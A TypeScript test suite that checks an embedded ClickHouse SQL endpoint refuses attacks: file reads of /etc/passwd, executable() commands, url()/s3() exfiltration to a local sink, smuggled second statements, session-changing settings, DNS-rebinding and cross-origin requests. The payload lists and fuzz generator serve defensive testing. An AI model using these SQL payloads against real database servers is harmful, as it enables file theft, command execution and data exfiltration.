// Attacks on the embedded SQL endpoint (issue 11, "the embedded ClickHouse endpoint runs any SQL for
// anyone"), each against the real server in-process (chDB + the HTTP front on 127.0.0.1): one test per
// finding, each failing if the hole came back.
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ClickHouseError, createClient } from '@clickhouse/client';
import { rawRequest } from '@mp-otel/devkit';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CREDENTIALS_FILE, type Credential, type Role } from '../src/index.js';
import { embedded } from './helpers.js';

const dataDir = mkdtempSync(join(tmpdir(), 'mp-otel-sqlsec-'));
const loot = mkdtempSync(join(tmpdir(), 'mp-otel-sqlsec-loot-'));
let emb: Awaited<ReturnType<typeof embedded>>;
// a server standing for "somewhere on the network": any request reaching it is a hole
let sink: Server;
let sinkHits = 0;
let sinkUrl = '';

beforeAll(async () => {
  emb = await embedded({ dataDir, env: {} });
  sink = createServer((req, res) => {
    sinkHits++;
    req.resume();
    res.end('line1\nline2\n');
  });
  await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
  sinkUrl = `http://127.0.0.1:${(sink.address() as { port: number }).port}`;
  await emb.client.command({
    query:
      'CREATE TABLE IF NOT EXISTS default.sec_t (a String, n UInt32 DEFAULT 0) ENGINE = MergeTree ORDER BY a',
  });
});
afterAll(async () => {
  await emb?.dispose();
  await new Promise<void>((r) => sink.close(() => r()));
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(loot, { recursive: true, force: true });
});

const cred = (role: Role): Credential => emb.credentials[role];
const basic = (c: Credential) => `Basic ${Buffer.from(`${c.username}:${c.password}`).toString('base64')}`;

/** POSTs SQL as a role (admin unless said otherwise); returns status, text and the exception code. */
async function sql(
  text: string,
  o: { role?: Role; method?: 'GET' | 'POST'; headers?: Record<string, string>; query?: string } = {},
) {
  const role = o.role ?? 'admin';
  const headers = { Authorization: basic(cred(role)), ...o.headers };
  const res =
    o.method === 'GET'
      ? await fetch(`${emb.clickhouseUrl}/?query=${encodeURIComponent(text)}`, { headers })
      : await fetch(`${emb.clickhouseUrl}/${o.query ? `?query=${encodeURIComponent(o.query)}` : ''}`, {
          method: 'POST',
          body: text,
          headers,
        });
  return { status: res.status, text: await res.text(), code: res.headers.get('x-clickhouse-exception-code') };
}

/** Raw HTTP (fetch cannot set Host): for DNS-rebinding and Origin checks. */
async function raw(headers: Record<string, string>, body: string): Promise<{ status: number; text: string }> {
  const r = await rawRequest(new URL('/', emb.clickhouseUrl).href, { method: 'POST', headers, body });
  return { status: r.status, text: r.body };
}

describe('credentials on the SQL endpoint', () => {
  it('refuses anonymous and wrong-password requests with ClickHouse-like 401 errors', async () => {
    const anon = await fetch(`${emb.clickhouseUrl}/`, { method: 'POST', body: 'SELECT 1' });
    expect(anon.status).toBe(401);
    expect(anon.headers.get('x-clickhouse-exception-code')).toBe('516');
    expect(await anon.text()).toMatch(
      /^Code: 516\. DB::Exception: default: Authentication failed: password is incorrect, or there is no user with such name\. \(AUTHENTICATION_FAILED\)/,
    );
    for (const role of ['admin', 'reader', 'writer', 'migrator'] as const) {
      const wrong = await fetch(`${emb.clickhouseUrl}/`, {
        method: 'POST',
        body: 'SELECT 1',
        headers: { Authorization: basic({ username: cred(role).username, password: 'x' }) },
      });
      expect(wrong.status).toBe(401);
    }
    // the three ways ClickHouse accepts credentials all work
    const h = await fetch(`${emb.clickhouseUrl}/`, {
      method: 'POST',
      body: 'SELECT 1',
      headers: { 'X-ClickHouse-User': cred('reader').username, 'X-ClickHouse-Key': cred('reader').password },
    });
    expect([h.status, await h.text()]).toEqual([200, '1\n']);
    const p = await fetch(
      `${emb.clickhouseUrl}/?user=${cred('reader').username}&password=${encodeURIComponent(cred('reader').password)}`,
      { method: 'POST', body: 'SELECT 2' },
    );
    expect([p.status, await p.text()]).toEqual([200, '2\n']);
    // ping stays open, as on a ClickHouse server
    expect(await (await fetch(`${emb.clickhouseUrl}/ping`)).text()).toBe('Ok.\n');
  });

  it('generates passwords on first start, keeps them owner-only (0600) and the same across restarts', async () => {
    const file = join(dataDir, CREDENTIALS_FILE);
    expect(emb.credentialsFile).toBe(file);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const stored = JSON.parse(readFileSync(file, 'utf8')) as { users: Record<Role, Credential> };
    expect(stored.users.admin).toEqual(cred('admin'));
    expect(cred('admin').username).toBe('default');
    expect(cred('admin').password.length).toBeGreaterThanOrEqual(20);
    const names = new Set(Object.values(emb.credentials).map((c) => c.password));
    expect(names.size).toBe(4);
  });
});

describe('no file or network access through SQL, whatever is sent (as the administrator)', () => {
  const passwdLine = /root:.*:0:0:/;
  const readAttempts = [
    "SELECT * FROM file('/etc/passwd', LineAsString)",
    "select * from FILE('/etc/passwd', 'LineAsString')",
    "SELECT * FROM `file`('/etc/passwd', LineAsString)",
    "SELECT * FROM /* x */ file /* y */ ('/etc/passwd', LineAsString) -- z",
    "SELECT file('/etc/passwd')",
    "SELECT * FROM (SELECT * FROM (SELECT * FROM file('/etc/passwd', LineAsString)))",
    "WITH x AS (SELECT * FROM file('/etc/passwd', LineAsString)) SELECT * FROM x",
    "SELECT 1 WHERE 'a' IN (SELECT * FROM file('/etc/passwd', LineAsString))",
    "SELECT * FROM default.sec_t AS a JOIN file('/etc/passwd', LineAsString) AS b ON 1",
    "SELECT * FROM view(SELECT * FROM file('/etc/passwd', LineAsString))",
    "DESCRIBE file('/etc/passwd', LineAsString)",
    "SELECT * FROM fileCluster('default', '/etc/passwd', LineAsString)",
    "SELECT * FROM executable('cat /etc/passwd', LineAsString)",
    "SELECT * FROM input('a String')",
    "SELECT 1 UNION ALL SELECT * FROM file('/etc/passwd', LineAsString)",
    "EXPLAIN PIPELINE SELECT * FROM file('/etc/passwd', LineAsString)",
  ];
  it.each(readAttempts)('refuses to read a file: %s', async (q) => {
    const r = await sql(q);
    expect(r.status).toBe(403);
    expect(r.code).toBe('497');
    expect(r.text).not.toMatch(passwdLine);
    expect(r.text).toMatch(/not allowed through the mp-otel SQL endpoint/);
  });

  it('refuses to write, append to or truncate files (INSERT INTO FUNCTION, OUTFILE, engines, databases, disks)', async () => {
    const target = join(loot, 'written.txt');
    const attempts = [
      `INSERT INTO FUNCTION file('${target}', LineAsString) SELECT 'pwned'`,
      `insert into function FILE('${target}', 'CSV', 'a String') values ('pwned')`,
      `INSERT INTO TABLE FUNCTION file('${target}', LineAsString) SELECT 'pwned'`,
      `SELECT 'pwned' INTO OUTFILE '${target}'`,
      `SELECT 'pwned' INTO OUTFILE '${target}' TRUNCATE FORMAT CSV`,
      `CREATE TABLE default.f1 (a String) ENGINE = File(LineAsString, '${target}')`,
      `create table default.f2 (a String) engine=file('LineAsString')`,
      `CREATE TABLE default.f3 AS file('${target}', LineAsString, 'a String')`,
      `CREATE TABLE default.f4 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '${loot}/')`,
      `CREATE DATABASE fs ENGINE = Filesystem('${loot}')`,
      `CREATE TABLE default.f5 (a String) ENGINE = EmbeddedRocksDB(0, '${loot}/rocks') PRIMARY KEY a`,
      `INSERT INTO default.sec_t FROM INFILE '/etc/passwd' FORMAT LineAsString`,
      `BACKUP TABLE default.sec_t TO File('${target}')`,
      `ATTACH TABLE default.f6 FROM '${loot}' (a String) ENGINE = MergeTree ORDER BY a`,
      `CREATE DICTIONARY default.d1 (a String) PRIMARY KEY a SOURCE(FILE(path '/etc/passwd' format 'LineAsString')) LAYOUT(FLAT()) LIFETIME(0)`,
      // SQL hidden in string literals that ClickHouse runs later
      `CREATE DICTIONARY default.d4 (a String) PRIMARY KEY a SOURCE(CLICKHOUSE(QUERY 'SELECT line AS a FROM file(\\'/etc/passwd\\', LineAsString)')) LAYOUT(FLAT()) LIFETIME(0)`,
      `CREATE DICTIONARY default.d5 (a String) PRIMARY KEY a SOURCE(CLICKHOUSE(TABLE 'sec_t' DB 'default' WHERE 'a IN (SELECT * FROM file(''/etc/passwd'', LineAsString))')) LAYOUT(FLAT()) LIFETIME(0)`,
      `SELECT * FROM default.sec_t SETTINGS additional_table_filters = {'default.sec_t': 'a IN (SELECT * FROM file(\\'/etc/passwd\\', LineAsString))'}`,
      `SELECT * FROM default.sec_t SETTINGS additional_result_filter = 'a IN (SELECT * FROM file(\\'/etc/passwd\\', LineAsString))'`,
      `SELECT 1 FORMAT Template SETTINGS format_template_resultset = '/etc/passwd'`,
    ];
    for (const q of attempts) {
      const r = await sql(q);
      expect([q, r.status]).toEqual([q, 403]);
    }
    expect(existsSync(target)).toBe(false);
    expect(existsSync(join(loot, 'rocks'))).toBe(false);
    const made = await sql(
      "SELECT name FROM system.tables WHERE database = 'default' AND name LIKE 'f%' UNION ALL SELECT name FROM system.databases WHERE name = 'fs' FORMAT TSV",
    );
    expect(made.text).toBe('');
  });

  it('never reaches the network (url, s3, remote, mysql, dictionaries with HOST…)', async () => {
    const attempts = [
      `SELECT * FROM url('${sinkUrl}/a', LineAsString)`,
      `SELECT * FROM URL('${sinkUrl}/a', 'LineAsString')`,
      `INSERT INTO FUNCTION url('${sinkUrl}/x', LineAsString) SELECT 'exfil'`,
      `INSERT INTO FUNCTION url('${sinkUrl}/x', LineAsString, 'a String') SELECT * FROM file('/etc/hostname', LineAsString)`,
      `SELECT * FROM s3('${sinkUrl}/bucket/x', LineAsString)`,
      `SELECT * FROM urlCluster('default', '${sinkUrl}/a', LineAsString)`,
      "SELECT * FROM remote('127.0.0.1:9000', system.one)",
      "SELECT * FROM remoteSecure('127.0.0.1:9440', system.one)",
      "SELECT * FROM cluster('default', system.one)",
      "SELECT * FROM mysql('127.0.0.1:3306', 'db', 't', 'u', 'p')",
      "SELECT * FROM postgresql('127.0.0.1:5432', 'db', 't', 'u', 'p')",
      `SELECT * FROM hdfs('hdfs://127.0.0.1:9000/x', LineAsString)`,
      "SELECT * FROM jdbc('jdbc:x', 't')",
      "SELECT * FROM odbc('DSN=x', 't')",
      `CREATE TABLE default.u1 (a String) ENGINE = URL('${sinkUrl}/a', LineAsString)`,
      `CREATE TABLE default.u2 (a String) ENGINE = S3('${sinkUrl}/b/x', LineAsString)`,
      `CREATE TABLE default.u3 (a String) ENGINE = Distributed('default', 'system', 'one')`,
      `CREATE DICTIONARY default.d2 (a String) PRIMARY KEY a SOURCE(HTTP(url '${sinkUrl}/d' format 'TSV')) LAYOUT(FLAT()) LIFETIME(0)`,
      `CREATE DICTIONARY default.d3 (a String) PRIMARY KEY a SOURCE(CLICKHOUSE(HOST '127.0.0.1' PORT 9000 QUERY 'SELECT 1')) LAYOUT(FLAT()) LIFETIME(0)`,
    ];
    for (const q of attempts) {
      const r = await sql(q);
      expect([q, r.status]).toEqual([q, 403]);
    }
    expect(sinkHits).toBe(0);
  });

  it('runs exactly one statement: multi-statements and inline INSERT data cannot smuggle a second one', async () => {
    const multi = await sql("SELECT 1; SELECT * FROM file('/etc/passwd', LineAsString)");
    expect(multi.status).toBe(400);
    expect(multi.text).toMatch(/Multi-statements are not allowed/);
    expect(multi.text).not.toMatch(passwdLine);
    // ClickHouse's statement splitter would run the SELECT after the VALUES data: here it is data
    for (const tail of [
      "SELECT * FROM file('/etc/passwd', LineAsString)",
      'CREATE TABLE default.smuggled (a UInt8) ENGINE = Memory',
    ]) {
      const smuggle = await sql(`INSERT INTO default.sec_t (a) VALUES ('ok1'); ${tail}`);
      expect(smuggle.status).toBeLessThan(500);
      expect(smuggle.text).not.toMatch(passwdLine);
      const json = await sql(`INSERT INTO default.sec_t FORMAT JSONEachRow {"a":"ok2"}\n; ${tail}`);
      expect(json.status).toBeLessThan(500);
      expect(json.text).not.toMatch(passwdLine);
    }
    expect((await sql('EXISTS TABLE default.smuggled FORMAT TSV')).text).toBe('0\n');
    // the Values format evaluates expressions: not here
    const expr = await sql("INSERT INTO default.sec_t (a) VALUES (file('/etc/hostname'))");
    expect(expr.status).toBeGreaterThanOrEqual(400);
    expect(expr.status).toBeLessThan(500);
    const stored = await sql('SELECT a FROM default.sec_t ORDER BY a FORMAT TSV');
    expect(stored.text).not.toContain(readFileSync('/etc/hostname', 'utf8').trim());
    // expressions in VALUES are checked like a statement: functions work, file() and table reads do not
    const exprOk = await sql(
      "INSERT INTO default.sec_t (a, n) VALUES (concat('e', 'x'), toUInt32(toIPv4('0.0.0.9')))",
    );
    expect(exprOk.status).toBe(200);
    expect((await sql("SELECT n FROM default.sec_t WHERE a = 'ex' FORMAT TSV")).text).toBe('9\n');
    for (const q of [
      'INSERT INTO default.sec_t (a) VALUES ((SELECT any(a) FROM default.sec_t))',
      "INSERT INTO default.sec_t (a) VALUES (`FILE` /**/ ('/etc/hostname'))",
      "INSERT INTO default.sec_t (a) VALUES ('x') SELECT 1",
    ]) {
      const r = await sql(q);
      expect([q, r.status >= 400 && r.status < 500]).toEqual([q, true]);
    }
    // plain inline inserts keep working, quotes and semicolons inside values included
    const ok = await sql("INSERT INTO default.sec_t (a, n) VALUES ('x;y', 1), ('it''s', 2)");
    expect(ok.status).toBe(200);
    const json = await sql('INSERT INTO default.sec_t FORMAT JSONEachRow\n{"a":"j;1","n":3}\n');
    expect(json.status).toBe(200);
    expect(
      (await sql('SELECT a, n FROM default.sec_t WHERE n > 0 AND n < 9 ORDER BY n FORMAT TSV')).text,
    ).toBe("x;y\t1\nit\\'s\t2\nj;1\t3\n");
  });

  it('refuses the statements and settings that would change the shared session or re-enable access', async () => {
    for (const q of [
      'SET readonly = 0',
      'SET allow_ddl = 1',
      'USE system',
      'SYSTEM SHUTDOWN',
      'SYSTEM DROP DNS CACHE',
      'SELECT 1 SETTINGS allow_introspection_functions = 1',
      'SELECT 1 SETTINGS readonly = 0',
      "CREATE USER u IDENTIFIED BY 'x'",
      'GRANT ALL ON *.* TO default',
      "CREATE NAMED COLLECTION nc AS url = 'http://x'",
      "SELECT reverseDNSQuery('127.0.0.1')",
      'ALTER TABLE default.sec_t MODIFY SETTING allow_remote_fs_zero_copy_replication = 1',
    ]) {
      const r = await sql(q);
      expect([q, r.status]).toEqual([q, 403]);
    }
  });

  it('answers syntax errors with 400, not 500', async () => {
    const r = await sql('SELEC 1');
    expect(r.status).toBe(400);
    expect(r.code).toBe('62');
  });
});

describe('fuzz: obfuscated file/url access is always refused', () => {
  // random spellings (case, comments, backquotes, whitespace) of a dangerous call, wrapped in random
  // query shapes (subqueries, WITH, IN, JOIN, UNION, view(), INSERT INTO FUNCTION, CREATE … AS, scalar
  // use, SETTINGS): the answer is a 4xx and nothing of /etc/passwd comes back, nothing reaches the sink
  const spellCase = (w: string) =>
    fc
      .array(fc.boolean(), { minLength: w.length, maxLength: w.length })
      .map((bs) => [...w].map((c, i) => (bs[i] ? c.toUpperCase() : c.toLowerCase())).join(''));
  const gap = fc.constantFrom(' ', '\n', '\t', ' /* ; */ ', ' -- c\n', '  ', '/**/');
  const fn = fc
    .tuple(
      fc.constantFrom(
        'file',
        'url',
        's3',
        'remote',
        'executable',
        'fileCluster',
        'urlCluster',
        'input',
        'hdfs',
      ),
      fc.boolean(),
      gap,
    )
    .chain(([name, quoted, g]) =>
      (name === 'file' || name === 'url' ? spellCase(name) : fc.constant(name)).map((n) => {
        const called = quoted ? `\`${n}\`` : n;
        const arg =
          name === 'url' || name === 'urlCluster' || name === 's3' || name === 'hdfs'
            ? `'${sinkUrl}/fuzz', LineAsString`
            : name === 'remote'
              ? "'127.0.0.1:9000', system.one"
              : name === 'input'
                ? "'a String'"
                : "'/etc/passwd', LineAsString";
        return `${called}${g}(${arg})`;
      }),
    );
  const shape = fc.constantFrom(
    (f: string) => `SELECT * FROM ${f}`,
    (f: string) => `SELECT * FROM (SELECT * FROM (SELECT * FROM ${f}))`,
    (f: string) => `WITH x AS (SELECT * FROM ${f}) SELECT * FROM x`,
    (f: string) => `SELECT 1 WHERE 'root' IN (SELECT * FROM ${f})`,
    (f: string) => `SELECT * FROM system.one AS a JOIN ${f} AS b ON 1`,
    (f: string) => `SELECT 1 UNION ALL SELECT * FROM ${f}`,
    (f: string) => `SELECT * FROM view(SELECT * FROM ${f})`,
    (f: string) => `INSERT INTO FUNCTION ${f} SELECT 'x'`,
    (f: string) => `CREATE TABLE default.fz ENGINE = MergeTree ORDER BY tuple() AS SELECT * FROM ${f}`,
    (f: string) => `SELECT (SELECT count() FROM ${f}) SETTINGS max_threads = 1`,
    (f: string) => `DESCRIBE TABLE ${f}`,
    (f: string) => `EXPLAIN PLAN SELECT * FROM ${f}`,
  );
  it('refuses every generated variant (200 runs)', async () => {
    const before = sinkHits;
    await fc.assert(
      fc.asyncProperty(fn, shape, fc.boolean(), async (f, wrap, lower) => {
        const q = lower
          ? wrap(f)
              .toLowerCase()
              .replace(/'\/etc\/passwd'/, "'/etc/passwd'")
          : wrap(f);
        const r = await sql(q);
        expect(r.status, q).toBeGreaterThanOrEqual(400);
        expect(r.status, q).toBeLessThan(500);
        expect(r.text).not.toMatch(/root:.*:0:0:/);
      }),
      { numRuns: 200, seed: 11 },
    );
    expect(sinkHits).toBe(before);
    expect((await sql('EXISTS TABLE default.fz FORMAT TSV')).text).toBe('0\n');
  }, 120_000);
});

describe('GET is read-only, as on a ClickHouse server', () => {
  it('runs SELECT over GET and refuses DDL and DML over GET even for the administrator', async () => {
    expect((await sql('SELECT 41 + 1', { method: 'GET' })).text).toBe('42\n');
    for (const q of [
      'CREATE TABLE default.g1 (a UInt8) ENGINE = Memory',
      "INSERT INTO default.sec_t (a) VALUES ('get')",
      'DROP TABLE default.sec_t',
      'TRUNCATE TABLE default.sec_t',
    ]) {
      const r = await sql(q, { method: 'GET' });
      expect([q, r.status, r.code]).toEqual([q, 403, '164']);
    }
    expect((await sql('EXISTS TABLE default.sec_t FORMAT TSV')).text).toBe('1\n');
  });
});

describe('foreign Origin and Host are refused (cross-site requests, DNS rebinding)', () => {
  it('refuses a text/plain POST from a web page, a rebound Host name and cross-site fetches', async () => {
    const auth = basic(cred('admin'));
    const port = new URL(emb.clickhouseUrl).port;
    const evil = await raw(
      {
        Host: `evil.example:${port}`,
        Origin: 'http://evil.example',
        'Content-Type': 'text/plain',
        Authorization: auth,
      },
      'SELECT 1',
    );
    expect(evil.status).toBe(403);
    expect(evil.text).toMatch(/Host "evil\.example:\d+" is not a name of this server/);
    const origin = await raw(
      {
        Host: `127.0.0.1:${port}`,
        Origin: 'http://evil.example',
        'Content-Type': 'text/plain',
        Authorization: auth,
      },
      'SELECT 1',
    );
    expect(origin.status).toBe(403);
    expect(origin.text).toMatch(/origin "http:\/\/evil\.example" are refused/);
    const rebound = await raw({ Host: `attacker.test:${port}`, Authorization: auth }, 'SELECT 1');
    expect(rebound.status).toBe(403);
    const nullOrigin = await raw(
      { Host: `127.0.0.1:${port}`, Origin: 'null', Authorization: auth },
      'SELECT 1',
    );
    expect(nullOrigin.status).toBe(403);
    const site = await raw(
      { Host: `127.0.0.1:${port}`, 'Sec-Fetch-Site': 'cross-site', Authorization: auth },
      'SELECT 1',
    );
    expect(site.status).toBe(403);
    // loopback names and IP literals are this server
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, `10.1.2.3:${port}`]) {
      const ok = await raw({ Host: host, Authorization: auth }, 'SELECT 1');
      expect([host, ok.status, ok.text]).toEqual([host, 200, '1\n']);
    }
    const local = await raw(
      { Host: `localhost:${port}`, Origin: 'http://localhost:3000', Authorization: auth },
      'SELECT 1',
    );
    expect(local.status).toBe(200);
  });
});

describe('roles as on a real server', () => {
  const client = (role: Role) =>
    createClient({
      url: emb.clickhouseUrl,
      username: cred(role).username,
      password: cred(role).password,
      database: 'default',
    });

  it('read-only user (dashboards): reads, cannot INSERT, CREATE, ALTER or DROP', async () => {
    const c = client('reader');
    try {
      const rows = await (
        await c.query({ query: 'SELECT count() AS n FROM default.sec_t', format: 'JSONEachRow' })
      ).json();
      expect(rows).toHaveLength(1);
      expect(
        await (await c.query({ query: 'SHOW TABLES FROM default', format: 'JSONEachRow' })).json(),
      ).not.toHaveLength(0);
      const ins = await c
        .insert({ table: 'default.sec_t', values: [{ a: 'reader' }], format: 'JSONEachRow' })
        .catch((e) => e);
      expect(ins).toBeInstanceOf(ClickHouseError);
      expect((ins as ClickHouseError).code).toBe('164');
      expect((ins as ClickHouseError).message).toMatch(/readonly/);
      for (const q of [
        'CREATE TABLE default.r1 (a UInt8) ENGINE = Memory',
        'ALTER TABLE default.sec_t DELETE WHERE 1',
        'DROP TABLE default.sec_t',
        'TRUNCATE TABLE default.sec_t',
        "INSERT INTO default.sec_t (a) SELECT 'x'",
        'SELECT 1 SETTINGS max_memory_usage_for_user = 1, allow_ddl = 1',
      ]) {
        const e = await c.command({ query: q }).catch((x) => x);
        expect([q, e instanceof ClickHouseError]).toEqual([q, true]);
        expect(['164', '497']).toContain((e as ClickHouseError).code);
      }
      expect((await sql("SELECT count() FROM default.sec_t WHERE a = 'reader' FORMAT TSV")).text).toBe('0\n');
    } finally {
      await c.close();
    }
  });

  it('insert-only user (the collector exporter): inserts, describes; cannot SELECT from tables or run DDL', async () => {
    const c = client('writer');
    try {
      await c.insert({ table: 'default.sec_t', values: [{ a: 'writer', n: 7 }], format: 'JSONEachRow' });
      expect((await sql("SELECT n FROM default.sec_t WHERE a = 'writer' FORMAT TSV")).text).toBe('7\n');
      // an INSERT's own settings are accepted (and ignored, as URL settings are); data rides in the body
      const withSettings = await sql('{"a":"writer2","n":8}\n', {
        role: 'writer',
        query: 'INSERT INTO default.sec_t SETTINGS async_insert = 0 FORMAT JSONEachRow',
      });
      expect(withSettings.status).toBe(200);
      expect((await sql("SELECT n FROM default.sec_t WHERE a = 'writer2' FORMAT TSV")).text).toBe('8\n');
      // what clickhouse-go asks at start-up: server info and the table's columns
      expect((await sql("SELECT version() != '' FORMAT TSV", { role: 'writer' })).status).toBe(200);
      expect((await sql('DESC TABLE default.sec_t FORMAT TSV', { role: 'writer' })).status).toBe(200);
      for (const q of [
        'SELECT * FROM default.sec_t',
        'SELECT count() FROM system.tables',
        'SELECT 1 WHERE 1 IN (SELECT n FROM default.sec_t)',
        'INSERT INTO default.sec_t SELECT * FROM default.sec_t',
        'CREATE TABLE default.w1 (a UInt8) ENGINE = Memory',
        'DROP TABLE default.sec_t',
        'ALTER TABLE default.sec_t DELETE WHERE 1',
      ]) {
        const r = await sql(q, { role: 'writer' });
        expect([q, r.status, r.code]).toEqual([q, 403, expect.stringMatching(/^(497|164)$/)]);
        expect(r.text).toMatch(/Not enough privileges|readonly/);
      }
    } finally {
      await c.close();
    }
  });

  it('migrator (DDL): creates and alters tables, still no files or network', async () => {
    const c = client('migrator');
    try {
      await c.command({
        query: 'CREATE TABLE IF NOT EXISTS default.m1 (a UInt8) ENGINE = MergeTree ORDER BY a',
      });
      await c.command({ query: 'ALTER TABLE default.m1 ADD COLUMN IF NOT EXISTS b String' });
      await c.command({ query: 'DROP TABLE default.m1' });
      const e = await c
        .command({
          query:
            "CREATE TABLE default.m2 ENGINE = MergeTree ORDER BY tuple() AS SELECT * FROM file('/etc/passwd', LineAsString)",
        })
        .catch((x) => x);
      expect((e as ClickHouseError).code).toBe('497');
      const kill = await c.command({ query: 'KILL QUERY WHERE 0' }).catch((x) => x);
      expect((kill as ClickHouseError).code).toBe('497');
    } finally {
      await c.close();
    }
  });
});
